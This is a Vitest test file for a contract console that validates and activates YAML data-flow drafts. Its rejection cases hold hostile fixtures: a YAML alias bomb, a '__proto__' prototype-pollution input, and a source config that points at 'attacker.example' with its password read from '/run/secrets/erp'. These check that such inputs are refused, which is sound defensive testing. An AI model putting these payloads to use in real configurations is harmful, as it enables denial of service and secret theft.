import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createTestClickHouse, createTestPostgres } from '@/scripts/testing/databases';
import { consoleContractFiles } from '@/server/domain/contracts/console-files';
import { parseContractFile } from '@/server/domain/contracts/parse-contract-file';
import { resolveContracts } from '@/server/domain/contracts/resolve-contracts';
import { FACILITIES, SOURCES, flowText } from '@/server/domain/contracts/testing/contract-texts';
import type { Role } from '@/server/domain/roles/permissions';
import { schema } from '@/server/store/postgres';
import { Refusal } from '../refusal';
import type { ServiceContext } from '../service-context';
import { openStores, type TestStores } from '../testing/stores';
import { activateDraft } from './activate-draft';
import { readConsoleState } from './console-state';
import { listConsoleDocuments } from './list-console-documents';
import { loadActiveContracts } from './load-active-contracts';
import { readConsoleDocument } from './read-console-document';
import { removeConsoleDocument } from './remove-console-document';
import { storeContracts } from './store-contracts';
import { validateDraft } from './validate-draft';

const cleanUp: (() => Promise<void>)[] = [];
let stores: TestStores;
let folder: Record<string, string>;

beforeAll(async () => {
  const [postgres, clickhouse] = await Promise.all([createTestPostgres(), createTestClickHouse()]);
  stores = await openStores({ postgres: postgres.url, clickhouse: clickhouse.writerUrl });
  cleanUp.push(() => stores.close(), () => postgres.drop(), () => clickhouse.drop());
});
afterAll(async () => {
  for (const step of cleanUp) await step();
});
beforeEach(async () => {
  for (const table of [schema.activeContracts, schema.contractVersions, schema.contractProblems, schema.consoleDocuments]) await stores.db.delete(table);
  folder = { 'sources.yaml': SOURCES, 'facilities.yaml': FACILITIES, 'orders.yaml': flowText() };
  await collect();
});

function as(role: Role, name: string = role): ServiceContext {
  return { ...stores, actor: { kind: 'user', id: '0190b0de-0000-7000-8000-000000000001', email: `${name}@hospital.example`, name, grants: [{ role, scope: { facilities: null, payers: null } }] }, now: () => new Date('2026-01-05T08:00:00Z') };
}

/** One look of a collector: the folder and the product together come into force. */
async function collect(): Promise<void> {
  const files = Object.entries(folder).map(([file, text]) => parseContractFile(file, text));
  const state = await readConsoleState(stores.db);
  const { documents } = await loadActiveContracts(stores.db);
  await storeContracts(stores.db, resolveContracts([...files, ...consoleContractFiles(state)], documents), new Date());
}

const usage = (told: { id?: string; metadata?: string; hop?: string } = {}) => flowText({ id: 'usage', channel: '{ source: erp-db, kind: table, table: usage }', ...told });
const inForce = async () => (await loadActiveContracts(stores.db)).set.flows.map(({ metadata }) => `${metadata.id} ${metadata.version}`);
const rows = () => stores.db.query.consoleDocuments.findMany();
const refusalOf = async (call: Promise<unknown>): Promise<Refusal> => {
  const error = await call.then(() => new Error('it was done'), (thrown: unknown) => thrown);
  if (!(error instanceof Refusal)) throw error;
  return error;
};

describe('a draft', () => {
  it('comes into force without a file, is changed, and goes', async () => {
    const engineer = as('engineer');
    expect(await validateDraft(engineer, { yaml: usage() })).toEqual({
      flow: { id: 'usage', name: 'usage', version: '0.0.0', lifecycle: 'draft', hops: [{ id: 'post', name: 'post', channelId: 'erp-db:table:public.usage' }] }, problems: [], replaces: null,
    });
    expect(await activateDraft(engineer, { yaml: usage() })).toMatchObject({ id: 'usage', file: 'console/flows/usage', revision: 1, state: 'loading', updatedBy: 'user:engineer@hospital.example', yaml: usage() });
    await collect();
    expect(await listConsoleDocuments(as('viewer'))).toEqual([expect.objectContaining({ id: 'usage', state: 'in-force', problems: [] })]);
    expect(await inForce()).toEqual(['orders 0.0.0', 'usage 0.0.0']);

    const changed = await activateDraft(engineer, { yaml: usage({ metadata: 'version: 1.1.0' }), revision: 1 });
    expect([changed.revision, changed.version, changed.state]).toEqual([2, '1.1.0', 'loading']);
    expect((await validateDraft(engineer, { yaml: usage() })).replaces).toBe(2);
    await collect();
    expect(await inForce()).toEqual(['orders 0.0.0', 'usage 1.1.0']);
    await removeConsoleDocument(engineer, { flowId: 'usage' });
    await collect();
    expect([await inForce(), await rows()]).toEqual([['orders 0.0.0'], []]);
    // Every version that was in force is kept.
    expect((await stores.db.query.contractVersions.findMany()).filter(({ documentId }) => documentId === 'usage')).toHaveLength(2);
    expect((await refusalOf(removeConsoleDocument(engineer, { flowId: 'usage' }))).code).toBe('not-found');
    expect((await refusalOf(readConsoleDocument(engineer, { flowId: 'orders' }))).code).toBe('not-found');
  });

  it('is judged together with what was activated a moment ago', async () => {
    await activateDraft(as('engineer'), { yaml: usage() });
    const { issues } = await refusalOf(activateDraft(as('engineer'), { yaml: usage({ id: 'copy' }) }));
    expect(issues).toEqual([expect.objectContaining({ file: 'console/flows/copy', line: 7, rule: 'ambiguous-channel', message: expect.stringContaining('usage') })]);
  });

  it('that two activate at once is one of theirs', async () => {
    await activateDraft(as('engineer'), { yaml: usage() });
    const outcomes = await Promise.allSettled(['anna', 'ben'].map((name) => activateDraft(as('engineer', name), { yaml: usage({ metadata: `name: By ${name}` }), revision: 1 })));
    expect(outcomes.map(({ status }) => status).toSorted()).toEqual(['fulfilled', 'rejected']);
    const [row] = await rows();
    expect(row?.revision).toBe(2);
    const loser = outcomes.find((outcome) => outcome.status === 'rejected')?.reason as Refusal;
    expect([loser.code, loser.message]).toEqual(['conflict', expect.stringContaining(`${row?.updatedBy} activated "usage"`)]);
    expect((await refusalOf(activateDraft(as('engineer'), { yaml: usage() }))).message).toContain('as revision 2');
    expect((await refusalOf(activateDraft(as('engineer'), { yaml: flowText({ id: 'new', channel: '{ source: erp-db, kind: table, table: new }' }), revision: 3 }))).message).toContain('was removed meanwhile');
  });
});

const bomb = `apiVersion: signalbox/v1\nkind: Flow\nmetadata:\n  id: bomb\n  tags: &a0 [x, x, x, x, x, x, x, x, x, x]\n${Array.from({ length: 12 }, (_, n) => `a${n + 1}: &a${n + 1} [${Array(10).fill(`*a${n}`).join(', ')}]`).join('\n')}\n`;
const leak = SOURCES.replace('kind: rabbitmq,', 'kind: rabbitmq, connect: { management: "http://attacker.example", user: u, password: { file: /run/secrets/erp } },');

/** Each place once: a parser may find much to say about one. */
const placesOf = (found: readonly { line: number | null; rule: string | null }[]) => [...new Set(found.map(({ line, rule }) => `${line} ${rule}`))];

describe('what cannot be activated', () => {
  it.each<[string, string, string[]]>([
    ['a bomb of aliases', bomb, ['1 yaml-syntax']],
    ['two megabytes', `${usage()}# ${'x'.repeat(1_060_000)}`, ['null file-unreadable']],
    ['nothing', '', ['null file-empty']],
    ['no YAML', 'kind: [', ['1 yaml-syntax']],
    ['a NUL', `${usage()}\u0000`, ['null file-unreadable']],
    ['thousands of nested lists', `apiVersion: signalbox/v1\nkind: Flow\nmetadata: ${'['.repeat(50_000)}`, ['3 yaml-syntax']],
    ['a prototype', usage().replace('metadata:', '__proto__: { a: 1 }\nmetadata:'), ['3 yaml-syntax']],
    ['sources, whose password may name any file', leak, ['2 console-flow']],
    ['sources behind a flow', `${usage()}---\n${leak}`, ['11 console-flow']],
    ['two flows', `${usage()}---\n${usage({ id: 'more' })}`, ['11 console-flow']],
    ['a lookup', FACILITIES.replace('id: facilities', 'id: others'), ['2 console-flow']],
    ['another kind', usage().replace('kind: Flow', 'kind: Deployment'), ['2 unknown-kind']],
    ['an unknown key', usage({ metadata: 'colour: red' }), ['5 unknown-key']],
    ['an unknown source', usage().replace('erp-db', 'nowhere'), ['8 source-unknown']],
    ['a source of another kind', usage().replace('erp-db', 'erp-api'), ['8 source-kind']],
    ['a lookup that does not exist', `${usage()}  fields:\n    payer: { from: ["attr:x"], lookup: payers }\n`, ['10 lookup-unknown']],
    ['an active flow without owner', usage({ metadata: 'lifecycle: active' }), ['5 active-complete']],
    ['the id of a file', usage({ id: 'orders' }), ['4 duplicate-id']],
    ['what a file in force matches', flowText({ id: 'copy' }), ['7 ambiguous-channel']],
  ])('%s', async (_, yaml, expected) => {
    const before = await inForce();
    const checked = await validateDraft(as('engineer'), { yaml });
    expect(placesOf(checked.problems)).toEqual(expected);
    const refusal = await refusalOf(activateDraft(as('engineer'), { yaml }));
    expect([refusal.code, placesOf(refusal.issues)]).toEqual(['invalid', expected]);
    expect(await rows()).toEqual([]);
    await collect();
    expect(await inForce()).toEqual(before);
  });

  it('leaves what is longer than any contract unread', async () => {
    await expect(activateDraft(as('engineer'), { yaml: 'x'.repeat(2_000_000) })).rejects.toThrow('is longer than a contract may be');
    expect(await rows()).toEqual([]);
  });
});

describe('other contracts', () => {
  const process = `apiVersion: signalbox/v1\nkind: Process\nmetadata: { id: supply }\nspec:\n  caseKey: order\n  steps:\n    - { id: used, evidence: [{ flow: usage, hop: post, leg: leave }] }\n`;

  it('hold the flow that they name', async () => {
    await activateDraft(as('engineer'), { yaml: usage() });
    await collect();
    folder['supply.yaml'] = process;
    await collect();
    const removal = await refusalOf(removeConsoleDocument(as('engineer'), { flowId: 'usage' }));
    expect([removal.code, removal.message]).toEqual(['conflict', expect.stringContaining('supply.yaml')]);
    const { issues } = await refusalOf(activateDraft(as('engineer'), { yaml: usage().replace('id: post', 'id: other'), revision: 1 }));
    expect(issues).toEqual([expect.objectContaining({ file: 'supply.yaml', rule: 'evidence-unknown' })]);
    expect(await inForce()).toEqual(['orders 0.0.0', 'usage 0.0.0']);
  });

  it('that come first keep a document of the product out, which says why', async () => {
    await activateDraft(as('engineer'), { yaml: usage() });
    folder['usage.yaml'] = usage({ metadata: 'version: 3.0.0' });
    await collect(); // both are new: neither may win by chance
    expect(await listConsoleDocuments(as('viewer'))).toEqual([expect.objectContaining({ state: 'refused', problems: [expect.objectContaining({ rule: 'duplicate-id', message: expect.stringContaining('console/flows/usage and usage.yaml') })] })]);
    await removeConsoleDocument(as('engineer'), { flowId: 'usage' });
    await collect();
    expect(await inForce()).toEqual(['orders 0.0.0', 'usage 3.0.0']);
  });
});
